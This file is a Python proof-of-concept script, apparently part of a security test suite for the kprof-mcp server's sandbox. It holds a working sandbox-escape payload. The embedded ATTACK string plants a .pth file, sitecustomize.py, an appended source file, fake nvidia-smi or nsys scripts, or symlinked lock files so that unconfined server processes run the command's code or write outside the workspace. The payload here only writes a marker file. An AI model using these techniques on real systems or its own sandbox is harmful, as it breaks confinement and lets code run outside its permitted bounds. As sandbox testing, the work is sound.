"""Tenth probe (issue 38), P10-1: a command rewrites the server's own interpreter or kprof's source when they
lie inside the workspace (README's quick start: ``.venv/bin/kprof-mcp --workspace .`` from the checkout; or a
project whose own ``.venv`` holds kprof-mcp), and the next unconfined supervisor runs it.

The command's working directory defaults to the workspace root, which is granted entry by entry: every entry
but ``out/``, ``.git`` and ``docs/kernels`` is writable whole, ``.venv/`` and ``kprof_mcp/`` included. The
command writes a ``.pth`` file into ``.venv``'s site-packages (or appends to ``kprof_mcp/lifeline.py``); every
Python process started from that venv afterwards runs it at start-up, the sandbox's supervisor
(``python -P -m kprof_mcp.sandbox``, unconfined, the server's user) first. The payload there writes a file
outside the workspace.

Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source|pythonpath|path|nsysenv|cachehome]
(cachehome: XDG_CACHE_HOME in the workspace; the command links kprof's locks/cpu.holder to an outside file,
which the server's next device lock overwrites: _note_holder's write_text follows the link)
(nsysenv: KPROF_NSYS names tools/nsys in the workspace; the command rewrites it, device_info runs it)
(path: the workspace's venv activated, its bin/ first on the server's PATH: the command plants bin/nvidia-smi,
mode 0755 at creation, which the server itself runs at the next job's preflight)
(pythonpath: no venv in the workspace; the server's PYTHONPATH names the workspace's src/, where the command
writes a sitecustomize.py)
Prints SUCCEEDED (a file outside written by a process of the server's that is not confined) or BLOCKED.
A fresh copy of kprof_mcp (the checkout's HEAD) and a fresh venv under /tmp; nothing of the checkout changed.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import anyio
from mcp import Client, StdioServerParameters

REPO = Path(__file__).resolve().parents[4]
HOW = sys.argv[1] if len(sys.argv) > 1 else "pth"
BASE = Path(f"/tmp/kp10-self-{os.getpid()}")
WS, OUTSIDE, HOME = BASE / "ws", BASE / "outside", BASE / "home"
PWNED = OUTSIDE / "PWNED.txt"
SITE = f"lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"

ATTACK = f'''
import os, sys
ws = os.getcwd()
payload = ("import os, sys; exec(\\"try:\\\\n open({str(PWNED)!r}, 'a').write('pid %d uid %d argv %r\\\\\\\\n' "
           "% (os.getpid(), os.getuid(), sys.argv))\\\\nexcept OSError: pass\\")")
try:
    open({str(OUTSIDE / "direct.txt")!r}, "w").write("x")
    print("control: wrote outside directly (NOT confined?)")
except OSError as e:
    print("control: outside write refused:", e)
if {HOW!r} == "cachehome":
    locks = os.path.join(ws, ".cache", "kprof-mcp", "locks")
    os.makedirs(locks, exist_ok=True)
    target = os.path.join(locks, "cpu.holder")
    print("locks before:", sorted(os.listdir(locks)))
    for name in ("cpu", "gpu-0"):
        try:
            os.unlink(os.path.join(locks, name + ".holder"))
        except FileNotFoundError:
            pass
        os.symlink({str(OUTSIDE / "victim.txt")!r}, os.path.join(locks, name + ".holder"))
elif {HOW!r} == "nsysenv":
    target = os.path.join(ws, "tools", "nsys")
    with open(target, "w") as f:  # rewritten in place: its mode (0755) stays
        f.write('#!/bin/sh\\necho "pid $$ uid $(id -u) argv nvidia-smi-or-nsys nsys $*" >> {PWNED}\\nexit 1\\n')
elif {HOW!r} == "path":
    target = os.path.join(ws, ".venv", "bin", "nvidia-smi")
    fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)  # its mode at creation: no chmod
    os.write(fd, b'#!/bin/sh\\necho "pid $$ uid $(id -u) argv nvidia-smi $*" >> {PWNED}\\nexit 1\\n')
    os.close(fd)
elif {HOW!r} == "pythonpath":
    target = os.path.join(ws, "src", "sitecustomize.py")
    with open(target, "w") as f:
        f.write(payload.replace("import os, sys; ", "import os, sys\\n") + "\\n")
elif {HOW!r} == "pth":
    target = os.path.join(ws, ".venv", {SITE!r}, "zz_kp10.pth")
    with open(target, "w") as f:
        f.write(payload + "\\n")
else:
    target = os.path.join(ws, "kprof_mcp", "lifeline.py")
    with open(target, "a") as f:
        f.write("\\n" + payload.replace("import os, sys; ", "import os, sys\\n") + "\\n")
print("wrote", target)
'''


def setup() -> None:
    for d in (WS / "kp10", OUTSIDE, HOME):
        d.mkdir(parents=True, exist_ok=True)
    # the checkout's committed kprof_mcp and kernels, as a workspace that is the checkout (README quick start)
    tar = subprocess.run(
        ["git", "-C", str(REPO), "archive", "HEAD", "kprof_mcp", "kernels", "pyproject.toml"],
        capture_output=True,
        check=True,
    ).stdout
    subprocess.run(["tar", "-x", "-C", str(WS)], input=tar, check=True)
    base_py = Path(sys.base_prefix) / "bin" / "python3"
    subprocess.run([str(base_py), "-m", "venv", "--without-pip", str(WS / ".venv")], check=True)
    # kprof_mcp from the workspace (an editable install's effect), its dependencies from the checkout's venv
    (WS / ".venv" / SITE / "_kp10_path.pth").write_text(f"{WS}\n{REPO / '.venv' / SITE}\n")
    (WS / "kp10" / "selfmod.py").write_text(ATTACK)
    (WS / "kp10" / "hello.py").write_text("print('hello')\n")
    (WS / ".cache").mkdir()
    (OUTSIDE / "victim.txt").write_text("outside victim\n")
    (WS / "tools").mkdir()
    fd = os.open(WS / "tools" / "nsys", os.O_WRONLY | os.O_CREAT, 0o755)
    os.write(fd, b"#!/bin/sh\necho 'NVIDIA Nsight Systems version 2025.3.1.90-1'\n")
    os.close(fd)
    (WS / "src").mkdir()  # the project's own import path (PYTHONPATH=src in the server's environment)


async def main() -> str:
    env = {
        "HOME": str(HOME),
        "KPROF_FORCE_CPU": "1",
        "PATH": os.environ["PATH"],
        "KPROF_LOCK_DIR": str(BASE / "locks"),
    }
    if (
        HOW == "pythonpath"
    ):  # kprof from the checkout's venv; the operator's PYTHONPATH names the project's src/
        env["PYTHONPATH"] = f"{WS / 'src'}:{WS}"
    if (
        HOW == "nsysenv"
    ):  # the operator's KPROF_NSYS names an Nsight Systems vendored in the project (tools/nsys)
        env["KPROF_NSYS"] = str(WS / "tools" / "nsys")
    if HOW == "cachehome":  # the operator's XDG_CACHE_HOME in the project (kprof's lock dir beneath it)
        env["XDG_CACHE_HOME"] = str(WS / ".cache")
        del env["KPROF_LOCK_DIR"]
    if HOW == "path":  # the workspace's venv activated in the shell that started the server
        env["PATH"] = f"{WS / '.venv' / 'bin'}:{env['PATH']}"
    py = (
        REPO / ".venv" / "bin" / "python"
        if HOW in ("pythonpath", "nsysenv", "cachehome")
        else WS / ".venv" / "bin" / "python"
    )
    params = StdioServerParameters(
        command=str(py),
        args=["-m", "kprof_mcp", "--workspace", str(WS), "--allow-commands"],
        env=env,
        cwd=str(WS),
    )
    async with Client(params) as c:
        for argv in (["python", "kp10/selfmod.py"], ["python", "kp10/hello.py"]):
            if HOW == "cachehome" and argv[1] == "kp10/hello.py":  # a kernel job takes the device lock
                for _ in range(2):
                    r = await c.call_tool(
                        "profile_kernel",
                        {"kernel": "vector_add", "mode": "event", "params": {"n": 1024}, "wait_s": 50},
                    )
                    print("--- profile_kernel:", r.is_error, (r.structured_content or {}).get("status"))
                continue
            if HOW == "nsysenv" and argv[1] == "kp10/hello.py":
                r = await c.call_tool("device_info", {})
                print(
                    "--- device_info:",
                    r.is_error,
                    "\n".join(getattr(x, "text", "") for x in r.content or [])[:300],
                )
                continue
            r = await c.call_tool("profile_command", {"command": argv, "mode": "event", "wait_s": 50})
            sc = r.structured_content or {}
            while sc.get("status") in ("queued", "running"):
                r = await c.call_tool("get_profile", {"job_id": sc["job_id"], "wait_s": 20})
                sc = r.structured_content or {}
            text = "\n".join(getattr(x, "text", "") for x in r.content or [])
            print(f"--- {argv}: error={r.is_error} status={sc.get('status')}\n{text[:1500]}", flush=True)
    if HOW == "cachehome":
        v = (OUTSIDE / "victim.txt").read_text()
        return (
            ""
            if v == "outside victim\n"
            else f"outside/victim.txt now: {v!r} (overwritten by the server through the link the command planted)"
        )
    return PWNED.read_text() if PWNED.exists() else ""


if __name__ == "__main__":
    setup()
    try:
        got = anyio.run(main)
        print("outside file written by:\n" + (got or "(nothing)"))
        # the supervisor's argv: -m POLICY.json -- ... (sys.argv[0] is still '-m' while site runs .pth files)
        unconfined = [
            ln
            for ln in got.splitlines()
            if ("kprof-policies-" in ln and "'--'" in ln)
            or "nvidia-smi" in ln
            or "overwritten by the server" in ln
        ]
        print(
            "RESULT selfws_" + HOW + ":",
            "SUCCEEDED (an unconfined process of the server's wrote outside for the command)"
            if unconfined
            else "BLOCKED",
        )
    finally:
        time.sleep(1)
        if not os.environ.get("KP10_KEEP"):
            shutil.rmtree(BASE, ignore_errors=True)
